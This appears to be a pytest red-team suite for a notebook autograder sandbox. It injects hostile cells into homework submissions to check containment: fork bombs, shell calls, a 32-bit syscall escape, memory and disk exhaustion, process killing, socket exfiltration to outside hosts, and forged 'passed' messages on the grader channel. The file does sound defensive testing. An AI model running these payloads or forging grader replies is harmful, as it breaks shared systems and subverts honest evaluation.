"""Hostile code in a notebook: each case grades a real rnn_bptt submission with an attack
in one answer cell; the attack is contained and the rest of the submission is graded."""
from __future__ import annotations

import os
import platform
import socket

import pytest

from . import harness

pytestmark = pytest.mark.redteam("attack")


def _graded(classroom, zygote, nb, name="mallory"):
    watch = classroom.watch()
    g = harness.grade(harness.write(nb, classroom.submissions / f"{name}.ipynb"), zygote)
    assert watch.changed() == []
    return g


def _expressions_still_full(g):
    for q in harness.EXPRESSIONS:
        assert g.full(q), (q, g.test(q))


def test_infinite_loop_in_a_cell(classroom, zygote):
    nb = harness.with_cell_after("answer_step_functions", "while True:\n    pass\n")
    g = _graded(classroom, zygote, nb)
    assert "ran longer than 3 s" in g.feedback()
    _expressions_still_full(g)
    assert g.full("step_functions") and g.full("sequence_functions")


def test_sleep_forever(classroom, zygote):
    nb = harness.with_cell_after("answer_spectral_radius", "import time\ntime.sleep(10**6)\n")
    g = _graded(classroom, zygote, nb)
    assert "ran longer than 3 s" in g.feedback()
    _expressions_still_full(g)
    assert g.full("spectral_radius")


def test_infinite_loop_inside_a_graded_function(classroom, zygote):
    nb = harness.with_answer("answer_step_functions",
                             "def rnn_step_forward(x, prev_h, Wx, Wh, b):\n    while True:\n        pass\n",
                             append=True)
    g = _graded(classroom, zygote, nb)
    assert g.score("step_functions") < g.test("step_functions")["max_score"]
    _expressions_still_full(g)


def test_recomputing_the_answer_with_finite_differences_is_legitimate(classroom, zygote):
    # forward as usual but keeping b; backward by central differences of that forward
    fd = '''
def rnn_step_forward(x, prev_h, Wx, Wh, b):
    next_h = np.tanh(x @ Wx + prev_h @ Wh + b)
    return next_h, (x, prev_h, Wx, Wh, b)


def rnn_step_backward(dnext_h, cache):
    args = [np.array(a, dtype=float) for a in cache]
    eps = 1e-6
    def loss():
        h, _ = rnn_step_forward(*args)
        return float(np.sum(h * dnext_h))
    grads = []
    for a in args:
        g = np.zeros_like(a)
        for idx in np.ndindex(a.shape):
            old = a[idx]
            a[idx] = old + eps
            up = loss()
            a[idx] = old - eps
            down = loss()
            a[idx] = old
            g[idx] = (up - down) / (2 * eps)
        grads.append(g)
    return tuple(grads)
'''
    nb = harness.with_answer("answer_step_functions", fd, append=True)
    g = _graded(classroom, zygote, nb)
    assert g.full("step_functions"), g.test("step_functions")


# -- helpers of the cases below -------------------------------------------------------

def _all_full_except(g, *attacked):
    """Every question not attacked keeps full marks."""
    for t in g.result["tests"]:
        if t["number"] not in attacked:
            assert t["score"] == t["max_score"], (t["number"], t["output"])


def _after_spectral(src):
    """An extra cell after the spectral radius answer (a value question reads it)."""
    return harness.with_cell_after("answer_spectral_radius", src)


def _clean_copy_still_full(classroom, zygote):
    g = harness.grade(harness.write(harness.solution(), classroom.submissions / "next.ipynb"), zygote)
    assert g.result["score"] == g.result["max_score"], g.feedback()


# -- processes --------------------------------------------------------------------------

def test_fork_bomb(classroom, zygote):
    harness.require(zygote, 'seccomp')
    g = _graded(classroom, zygote, _after_spectral(
        "import os\nwhile True:\n    os.fork()\n"))
    assert "raised PermissionError: [Errno 1] Operation not permitted" in g.feedback()
    _all_full_except(g)


def test_subprocess_and_os_system(classroom, zygote):
    harness.require(zygote, 'seccomp')
    g = _graded(classroom, zygote, _after_spectral(
        "import os, subprocess\n"
        "status = os.system('touch /tmp/ag-redteam-system')      # no shell starts: 127\n"
        "if status == 0:\n    spectral_radius = 1.0\n"
        "subprocess.Popen(['/bin/sh', '-c', 'sleep 100'])\n"))
    assert "raised PermissionError" in g.feedback()
    assert not os.path.exists("/tmp/ag-redteam-system")
    _all_full_except(g)


@pytest.mark.skipif(platform.machine() != "x86_64", reason="the 32-bit syscall ABI exists only on x86_64")
def test_fork_through_the_32_bit_syscall_abi(classroom, zygote):
    harness.require(zygote, 'seccomp')
    # int 0x80 is another syscall table (i386 fork = 2); a filter that checks only x86_64
    # numbers lets it through
    src = r'''
import ctypes, mmap, os
buf = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
buf.write(b"\xb8\x02\x00\x00\x00\xcd\x80\xc3")      # mov eax, 2 (i386 fork); int 0x80; ret
r = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(buf)))()
if r == 0:
    os._exit(0)                                      # a child: leave at once
if r > 0:
    spectral_radius = 1.0
    raise RuntimeError(f"forked child {r}")
raise OSError(f"the 32-bit fork returned {r}")
'''
    g = _graded(classroom, zygote, _after_spectral(src))
    assert "raised OSError: the 32-bit fork returned -1" in g.feedback()
    _all_full_except(g)


# -- memory, output, exits, crashes --------------------------------------------------------

def test_allocating_50_gb(classroom, zygote):
    nb = _after_spectral("big = np.empty(50 * 10**9, dtype=np.uint8)\nbig[::4096] = 1\n")
    nb = harness.with_cell_after("answer_grad_W", "junk = bytearray(50 * 10**9)\n", nb=nb)
    nb = harness.with_cell_after("answer_step_functions",
                                 "chunks = []\nfor _ in range(500):\n"
                                 "    chunks.append(np.ones(100 * 2**20 // 8))   # touched, 100 MB each\n", nb=nb)
    g = _graded(classroom, zygote, nb)
    fb = g.feedback()
    assert fb.count("raised MemoryError") == 3, fb
    assert fb.count("(a worker may use at most 1024 MB of memory)") == 3, fb
    _all_full_except(g)


def test_printing_a_gigabyte(classroom, zygote):
    log = zygote.scratch / "zygote.log"
    before = log.stat().st_size
    g = _graded(classroom, zygote, _after_spectral(
        "import sys\nline = 'x' * (1 << 20)\nfor _ in range(1024):\n"
        "    print(line)\n    sys.stderr.write(line)\n"))
    _all_full_except(g)
    assert log.stat().st_size == before          # the output went nowhere the grader keeps
    assert len(g.feedback()) < 20_000


def _scratch_bytes(zygote) -> int:
    from autograder.sandbox.disk import usage
    return usage(str(zygote.scratch), 10**6)[0]


@pytest.mark.parametrize("payload, why", [
    # 16 MB files (the size limit of one file) until the disk is full
    ("k = 0\nwhile True:\n    with open(f'fill{k}', 'wb') as f:\n        f.write(b'x' * ((16 << 20) - 1))\n    k += 1\n",
     "MB to its scratch directory"),
    # empty files and folders without end
    ("import os\nk = 0\nwhile True:\n    os.mkdir(f'd{k}')\n    open(f'd{k}/f', 'w').close()\n    k += 1\n",
     "files and folders in its scratch directory"),
], ids=["big_files", "many_files"])
def test_filling_the_disk(classroom, zygote, payload, why):
    before = _scratch_bytes(zygote)
    g = _graded(classroom, zygote, _after_spectral(payload))
    if harness.protections(zygote).get("disk") == "tmpfs":    # the kernel refuses the write
        assert "raised OSError: [Errno 28] No space left on device" in g.feedback(), g.feedback()
    else:                                                       # the trusted side measured it
        assert why in g.feedback() and "was stopped" in g.feedback()
    _all_full_except(g)
    # what it wrote was removed with its worker
    assert _scratch_bytes(zygote) - before < (4 << 20)


def test_sys_exit_and_os_exit(classroom, zygote):
    nb = harness.with_cell_after("answer_grad_W", "import sys\nsys.exit('bye')\n")
    nb = harness.with_cell_after("answer_spectral_radius", "import os\nos._exit(0)\n", nb=nb)
    g = _graded(classroom, zygote, nb)
    fb = g.feedback()
    assert "called sys.exit(); the rest of it did not run" in fb
    assert "the worker process exited with code 0 while loading" in fb
    _all_full_except(g)


def test_killing_its_own_worker(classroom, zygote):
    g = _graded(classroom, zygote, _after_spectral("import os\nos.kill(os.getpid(), 9)\n"))
    assert "the worker process died with signal SIGKILL" in g.feedback()
    _all_full_except(g)


def test_segfault_through_ctypes(classroom, zygote):
    g = _graded(classroom, zygote, _after_spectral("import ctypes\nctypes.string_at(0)\n"))
    assert "died with signal SIGSEGV" in g.feedback()
    _all_full_except(g)


def test_killing_the_zygote_and_the_grader(classroom, zygote):
    harness.require(zygote, 'signals_seccomp')
    # SIGKILL only where a success would hurt nothing but this suite (the zygote); elsewhere
    # signal 0, which asks the kernel whether the signal would be allowed
    src = f'''
import os, signal
{harness.ATTEMPTS}attempt("zygote", lambda: os.kill(os.getppid(), signal.SIGKILL))
attempt("zygote group", lambda: os.killpg(os.getppid(), signal.SIGKILL))
attempt("grader", lambda: os.kill({os.getpid()}, 0))
attempt("init", lambda: os.kill(1, 0))
attempt("everyone", lambda: os.kill(-1, 0))
me = os.getpid()
for p in range(2, 1 << 16):                          # every pid, whoever it is
    if p != me:
        attempt(p, lambda: os.kill(p, 0))
if got:
    spectral_radius = 1.0
    raise RuntimeError(f"could signal {{got[:10]}}")
os.kill(os.getppid(), signal.SIGKILL)                # uncaught: the student sees why
'''
    g = _graded(classroom, zygote, _after_spectral(src))
    assert "raised PermissionError: [Errno 1] Operation not permitted" in g.feedback()
    _all_full_except(g)
    assert zygote.proc.poll() is None
    _clean_copy_still_full(classroom, zygote)


# -- the network ----------------------------------------------------------------------

def test_network_connections(classroom, zygote, tmp_path):
    harness.require(zygote, 'sockets_blocked')
    # listeners of our own, so that a connection that got through would be seen
    tcp = socket.socket()
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(1)
    tcp.settimeout(0.2)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.setblocking(False)
    unix_path = str(tmp_path / "listener.sock")
    unix = socket.socket(socket.AF_UNIX)
    unix.bind(unix_path)
    unix.listen(1)
    unix.settimeout(0.2)
    abstract = socket.socket(socket.AF_UNIX)
    abstract.bind(b"\0ag-redteam-" + str(os.getpid()).encode())
    abstract.listen(1)
    abstract.settimeout(0.2)
    src = f'''
import socket
{harness.ATTEMPTS}def connect(family, address, kind=socket.SOCK_STREAM):
    s = socket.socket(family, kind)
    s.settimeout(1)
    s.connect(address)
    s.sendall(b"exfiltrated")
attempt("tcp local", lambda: connect(socket.AF_INET, ("127.0.0.1", {tcp.getsockname()[1]})))
attempt("tcp external", lambda: connect(socket.AF_INET, ("1.1.1.1", 80)))
attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
    b"exfiltrated", ("127.0.0.1", {udp.getsockname()[1]})))
attempt("udp external", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
    b"exfiltrated", ("8.8.8.8", 53)))
attempt("unix", lambda: connect(socket.AF_UNIX, {unix_path!r}))
attempt("abstract unix", lambda: connect(socket.AF_UNIX, {abstract.getsockname()!r}))
if got:
    spectral_radius = 1.0
    raise RuntimeError(f"connected: {{got}}")
socket.create_connection(("127.0.0.1", {tcp.getsockname()[1]}), timeout=1)   # uncaught
'''
    try:
        g = _graded(classroom, zygote, _after_spectral(src))
        for listener in (tcp, unix, abstract):
            with pytest.raises(OSError):          # socket.timeout: nobody came
                listener.accept()
        with pytest.raises(BlockingIOError):
            udp.recvfrom(100)
    finally:
        for s in (tcp, udp, unix, abstract):
            s.close()
    assert "raised PermissionError: [Errno 1] Operation not permitted" in g.feedback()
    _all_full_except(g)


# -- the worker's own channel to the grader -----------------------------------------------

def _channel_cell(body: str) -> str:
    return ("import os, stat, struct, json, time\n"
            "def _sock_fds():\n"
            "    out = []\n"
            "    for fd in range(3, 64):\n"
            "        try:\n"
            "            if stat.S_ISSOCK(os.fstat(fd).st_mode):\n"
            "                out.append(fd)\n"
            "        except OSError:\n"
            "            pass\n"
            "    return out\n"
            "fds = _sock_fds()\n"
            "assert fds, 'no socket found'\n"
            "def frame(raw):\n"
            "    return struct.pack('>I', len(raw)) + raw\n" + body)


def test_deeply_nested_header_on_the_channel(classroom, zygote):
    g = _graded(classroom, zygote, _after_spectral(_channel_cell(
        "for fd in fds:\n    os.write(fd, frame(b'[' * 100000))\ntime.sleep(30)\n")))
    fb = g.feedback()
    assert "was rejected: reply header is nested too deeply" in fb, fb
    _all_full_except(g)


def test_forged_success_on_the_channel(classroom, zygote):
    # the student's own value is wrong; the cell then claims success and a right-looking value
    forged = [{"ok": True}, {"ok": True, "value": {"t": "float", "v": 0.5626840670}},
              {"ok": True, "score": 10, "status": "passed", "value": {"t": "str", "v": "passed"}}]
    body = "spectral_radius = 0.0\n" + "".join(
        f"for fd in fds:\n    os.write(fd, frame(json.dumps(dict({m!r}, blobs=[])).encode()))\n"
        for m in forged)
    g = _graded(classroom, zygote, harness.with_answer("answer_spectral_radius", _channel_cell(body)))
    assert "something in the worker wrote on its channel to the grader" in g.feedback(), g.feedback()
    assert g.score("spectral_radius") == 0, g.test("spectral_radius")
    _all_full_except(g, "spectral_radius")


def test_closing_the_channel(classroom, zygote):
    g = _graded(classroom, zygote, _after_spectral(_channel_cell(
        "import socket\nfor fd in fds:\n    socket.socket(fileno=fd).shutdown(socket.SHUT_RDWR)\n"
        "    os.close(fd)\n")))
    assert "the worker process" in g.feedback()
    _all_full_except(g)
